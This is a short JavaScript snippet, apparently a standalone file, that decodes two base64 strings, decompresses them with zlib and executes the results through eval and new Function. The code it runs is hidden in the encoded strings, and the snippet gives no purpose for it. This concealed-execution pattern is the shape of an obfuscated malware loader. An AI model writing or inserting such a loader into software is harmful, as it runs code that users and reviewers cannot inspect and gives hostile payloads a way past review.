const zlib = require('zlib');
const packed = 'eNorSi0szSxK1VBKzsjMSYkvKMpPTi0uVtLUS61ITdZQykxR0gQA618MKg==';
eval(zlib.inflateSync(Buffer.from(packed, 'base64')).toString());
new Function(require('zlib').unzipSync(Buffer.from('eNorSi0pLcpTKCjKT04tLtZLzSsDAEVoBzc=', 'base64')).toString('utf8'))();
